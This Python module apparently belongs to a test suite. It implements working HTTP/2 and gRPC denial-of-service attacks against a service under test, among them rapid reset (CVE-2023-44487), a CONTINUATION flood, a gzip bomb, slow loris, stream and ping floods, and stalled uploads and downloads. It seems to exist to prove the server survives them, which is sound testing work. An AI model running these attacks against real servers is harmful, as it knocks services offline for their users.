"""Attacks on the wire, for proofs: what no library sends, and what a client does
that is wrong, slow or gone.

ATTACKS has them by name. Each is a context manager of a Target and of seconds: it
attacks for so long and then, inside of the block, holds on to what it has.
under_attack() carries one out in a process of its own.
"""

import contextlib
import ctypes
import dataclasses
import fcntl
import gzip
import multiprocessing
import os
import resource
import socket
import ssl
import struct
import termios
import threading
import time

import grpc
import numpy as np

import service
from attention.v1 import attention_pb2 as pb
from attention.v1 import attention_pb2_grpc
from http2 import (CANCEL, CONTINUATION, END_HEADERS, FRAME, HEADERS, PING,
                   PREFACE, RESET, SETTINGS, Connection, call_headers, frame,
                   header, message)

MIB = 1 << 20

SERVICE = "/attention.v1.AttentionService/"
COMPUTE, STREAM = SERVICE + "ComputeAttention", SERVICE + "StreamAttention"
UPLOAD, GET = SERVICE + "UploadWeights", SERVICE + "GetWeights"
METHODS = [COMPUTE, STREAM, UPLOAD, GET] + [
    SERVICE + name for name in ("SetWeights", "ListWeights", "DeleteWeights",
                                "SetLabel", "GetServerInfo")] + [
    "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch",
    "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
    "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo",
    "/no.such.Service/Method"]


@dataclasses.dataclass(frozen=True)
class Target:
    """A server; with the file of its authority, by TLS."""
    address: str
    ca: str | None = None

    def connect(self):
        return Connection(
            self.address,
            self.ca and ssl.create_default_context(cafile=self.ca))

    def channel(self):
        return service.channel(self.address, ca=self.ca)


class Clock:
    """The time that is left."""

    def __init__(self, seconds):
        self.end = time.monotonic() + seconds

    def runs(self):
        return time.monotonic() < self.end


def again_and_again(target, clock, attack):
    """Attacks while `attack` says that the connection takes it, and then on
    another one."""
    while clock.runs():
        with contextlib.suppress(OSError), target.connect() as connection:
            while clock.runs() and attack(connection):
                pass


@contextlib.contextmanager
def gzip_bomb(target, seconds):
    """254 MiB of zeros in a compressed message of 254 KiB."""
    bomb = gzip.compress(bytes(254 * MIB), 9)
    body = b"\x01" + message(bomb)[1:]

    def attack(connection):
        stream = connection.start(COMPUTE, ("grpc-encoding", "gzip"))
        connection.data(stream, body, end=True, patience=1)
        return not connection.closed

    again_and_again(target, Clock(seconds), attack)
    yield


@contextlib.contextmanager
def continuation_flood(target, seconds):
    """Headers that never end."""
    filler = b"".join(header(f"x-{i}", "y" * 1000) for i in range(15))
    clock = Clock(seconds)

    def attack(connection):
        connection.send(frame(HEADERS, 0, 1, call_headers(COMPUTE)))
        while clock.runs():
            if not connection.send(frame(CONTINUATION, 0, 1, filler)):
                break
        return False

    again_and_again(target, clock, attack)
    yield


@contextlib.contextmanager
def rapid_reset(target, seconds):
    """Calls that are reset as soon as they begin (CVE-2023-44487)."""
    headers = call_headers(COMPUTE)

    def attack(connection):
        burst = b""
        for _ in range(100):
            stream = connection.new_stream()
            burst += frame(HEADERS, END_HEADERS, stream, headers)
            burst += frame(RESET, 0, stream, CANCEL)
        return connection.send(burst)

    again_and_again(target, Clock(seconds), attack)
    yield


@contextlib.contextmanager
def many_streams(target, seconds):
    """20,000 streams on one connection, which may have 1,024."""
    headers = call_headers(STREAM)

    def attack(connection):
        for _ in range(20_000):
            if not connection.send(frame(HEADERS, END_HEADERS,
                                         connection.new_stream(), headers)):
                break
        return False

    again_and_again(target, Clock(seconds), attack)
    yield


def flood(target, seconds, burst):
    again_and_again(target, Clock(seconds),
                    lambda connection: connection.send(burst))


@contextlib.contextmanager
def ping_flood(target, seconds):
    flood(target, seconds, frame(PING, 0, 0, bytes(8)) * 100)
    yield


@contextlib.contextmanager
def settings_flood(target, seconds):
    flood(target, seconds, frame(SETTINGS) * 100)
    yield


@contextlib.contextmanager
def huge_literals(target, seconds):
    """A header of 1 MiB, whole."""
    block = call_headers(COMPUTE, ("x-huge", "y" * MIB))
    pieces = [block[i:i + FRAME] for i in range(0, len(block), FRAME)]

    def attack(connection):
        stream = connection.new_stream()
        for i, piece in enumerate(pieces):
            last = END_HEADERS if i == len(pieces) - 1 else 0
            if not connection.send(frame(CONTINUATION if i else HEADERS, last,
                                         stream, piece)):
                return False
        return True

    again_and_again(target, Clock(seconds), attack)
    yield


@contextlib.contextmanager
def slow_loris(target, seconds):
    """200 connections whose headers come a byte at a time."""
    clock = Clock(seconds)
    with contextlib.ExitStack() as stack:
        connections = [stack.enter_context(target.connect())
                       for _ in range(200)]
        for connection in connections:
            connection.send(frame(HEADERS, 0, 1, call_headers(COMPUTE)))
        while clock.runs():
            for connection in connections:
                connection.send(frame(CONTINUATION, 0, 1, header("x", "y")))
            time.sleep(0.2)
    yield


@contextlib.contextmanager
def half_sent(target, seconds):
    """Messages of 8 MiB that stand still after 7, to every method."""
    with contextlib.ExitStack() as stack:
        threads = []
        for method in METHODS * 4:
            connection = stack.enter_context(target.connect())
            threads.append(threading.Thread(
                target=lambda c, m: c.data(
                    c.start(m), message(bytes(7 * MIB), 8 * MIB),
                    patience=seconds),
                args=(connection, method)))
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        yield


def empty_set(width):
    """The header of a weight set of three matrices of FLOAT32."""
    side = pb.Projection(weight=pb.Tensor(
        dtype=pb.DATA_TYPE_FLOAT32, shape=(width, width)))
    return pb.WeightSet(num_heads=1, layout=pb.LAYOUT_IN_OUT, query=side,
                        key=side, value=side)


@contextlib.contextmanager
def uploads(target, seconds):
    """16 uploads of 64 MiB that bring everything and do not end."""
    width = 2365
    held, stalled = threading.Event(), threading.Semaphore(0)

    def messages():
        try:
            yield pb.UploadWeightsRequest(header=pb.UploadWeightsRequest.Header(
                name="attack", weights=empty_set(width)))
            for tensor in ("query.weight", "key.weight", "value.weight"):
                size = 4 * width * width
                for offset in range(0, size, MIB):
                    yield pb.UploadWeightsRequest(chunk=pb.TensorChunk(
                        tensor=tensor, offset=offset,
                        data=bytes(min(MIB, size - offset))))
        finally:  # sent, or refused
            stalled.release()
        held.wait()

    with contextlib.ExitStack() as stack:
        stack.callback(held.set)
        calls = []
        for _ in range(16):
            stub = attention_pb2_grpc.AttentionServiceStub(
                stack.enter_context(target.channel()))
            calls.append(stub.UploadWeights.future(messages(), timeout=60))
        clock = Clock(seconds)
        for _ in calls:
            stalled.acquire(timeout=max(0, clock.end - time.monotonic()))
        yield


def insist(call, request):
    """Until the server has the memory."""
    while True:
        try:
            return call(request, timeout=60)
        except grpc.RpcError as error:
            if error.code() is not grpc.StatusCode.RESOURCE_EXHAUSTED:
                raise
            time.sleep(0.1)


def read_large_set(stack, target, count, then=lambda connection: None):
    """Begins `count` GetWeights of 12 MiB, and reads 64 KiB of each at most;
    the set is deleted meanwhile."""
    width, name = 1024, f"large-{os.getpid()}"
    stub = attention_pb2_grpc.AttentionServiceStub(
        stack.enter_context(target.channel()))
    side = pb.Projection(weight=service.tensor(
        np.ones((width, width), np.float32)))
    insist(stub.SetWeights, pb.SetWeightsRequest(
        name=name, weights=pb.WeightSet(
            num_heads=1, layout=pb.LAYOUT_IN_OUT, query=side, key=side,
            value=side)))
    body = message(pb.GetWeightsRequest(weight_set=pb.WeightSetSelector(
        name=name)).SerializeToString())
    for _ in range(count):
        connection = stack.enter_context(target.connect())
        stream = connection.start(GET)
        connection.data(stream, body, end=True)
        connection.read_until(lambda kind, flags, of: of == stream)
        then(connection)
    insist(stub.DeleteWeights, pb.DeleteWeightsRequest(name=name))


@contextlib.contextmanager
def unread_downloads(target, seconds):
    """50 answers of GetWeights that nobody reads."""
    with contextlib.ExitStack() as stack:
        read_large_set(stack, target, 50)
        yield


@contextlib.contextmanager
def unread_answers(target, seconds):
    """50 answers of ComputeAttention, of 1 MiB each, that nobody reads."""
    with contextlib.ExitStack() as stack:
        for _ in range(50):
            connection = stack.enter_context(target.connect())
            connection.data(connection.start(COMPUTE), COMPUTE_MEBIBYTE,
                            end=True)
        yield


# One row of a query and 1 MiB of values: an answer of 1 MiB.
COMPUTE_MEBIBYTE = message(pb.ComputeAttentionRequest(
    query=service.tensor(np.ones((1, 1), np.float32)),
    key=service.tensor(np.ones((1, 1), np.float32)),
    value=service.tensor(np.ones((1, MIB // 4), np.float32)),
).SerializeToString())


@contextlib.contextmanager
def idle_streams(target, seconds):
    """1,024 streams that bring nothing."""
    with contextlib.ExitStack() as stack:
        for _ in range(4):
            connection = stack.enter_context(target.connect())
            for _ in range(256):
                connection.start(STREAM)
        yield


@contextlib.contextmanager
def idle_connections(target, seconds):
    """1,000 connections, of which every second says its first words."""
    host, _, port = target.address.rpartition(":")
    context = target.ca and ssl.create_default_context(cafile=target.ca)
    if context:
        context.set_alpn_protocols(["h2"])
    with contextlib.ExitStack() as stack:
        for i in range(1000):
            one = stack.enter_context(
                socket.create_connection((host, int(port)), 60))
            if i % 2 == 0:
                if context:
                    one = stack.enter_context(
                        context.wrap_socket(one, server_hostname=host))
                one.sendall(PREFACE + frame(SETTINGS))
        yield


SO_ATTACH_FILTER = 26  # asm-generic/socket.h


def vanish(connection):
    """As if its machine had lost power once the server has all that was sent:
    nothing that is sent to it arrives, so nothing is acknowledged, and nobody
    says that it is gone."""
    while fcntl.ioctl(connection.socket, termios.TIOCOUTQ, bytes(4)) != bytes(4):
        time.sleep(0.001)
    # A filter of one instruction, "return 0": of no packet any byte is kept.
    program = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0))
    connection.socket.setsockopt(
        socket.SOL_SOCKET, SO_ATTACH_FILTER,
        struct.pack("HP", 1, ctypes.addressof(program)))


@contextlib.contextmanager
def vanished_peers(target, seconds):
    """Peers that are gone in the midst of everything that takes memory."""
    with contextlib.ExitStack() as stack:
        read_large_set(stack, target, 10, then=vanish)
        for _ in range(10):
            for method, body in (
                    (COMPUTE, message(bytes(MIB), 2 * MIB)),
                    (STREAM, message(bytes(MIB), 2 * MIB)),
                    (STREAM, b""), (COMPUTE, COMPUTE_MEBIBYTE)):
                connection = stack.enter_context(target.connect())
                stream = connection.start(method)
                if body:
                    connection.data(stream, body,
                                    end=body is COMPUTE_MEBIBYTE)
                vanish(connection)
        yield


ATTACKS = {attack.__name__: attack for attack in (
    half_sent, rapid_reset, uploads, continuation_flood, gzip_bomb,
    many_streams, ping_flood, settings_flood, huge_literals, slow_loris,
    unread_downloads, unread_answers, idle_streams, idle_connections,
    vanished_peers)}

# What hangs on connections that stand still is tried with TLS too.
WITH_TLS = ("half_sent", "unread_downloads", "idle_streams", "idle_connections",
            "vanished_peers")

# Beyond the seconds it was given, for what is under way to be sent.
LONGEST = 120


def _carry_out(name, target, seconds, done, released):
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    with ATTACKS[name](target, seconds):
        done.set()
        released.wait()


class Attack:
    """An attack that another process carries out, which shares neither
    interpreter nor memory with those who look on. A context manager: it begins
    when it is entered."""

    def __init__(self, name, target, seconds):
        spawn = multiprocessing.get_context("spawn")
        self.name, self.seconds = name, seconds
        self.done, self.released = spawn.Event(), spawn.Event()
        self.process = spawn.Process(
            target=_carry_out, daemon=True,
            args=(name, target, seconds, self.done, self.released))

    def __enter__(self):
        self.process.start()
        return self

    def __exit__(self, *_):
        self.released.set()
        self.process.join(1)
        self.process.kill()
        self.process.join()

    def wait(self, server):
        """Until all has been sent, while what it holds on to is still held, or
        the process of the server has ended."""
        clock = Clock(self.seconds + LONGEST)
        while not self.done.wait(0.1) and server.poll() is None:
            if not self.process.is_alive():
                raise RuntimeError(f"the attack {self.name} broke")
            if not clock.runs():
                return  # the server keeps it waiting: it goes on
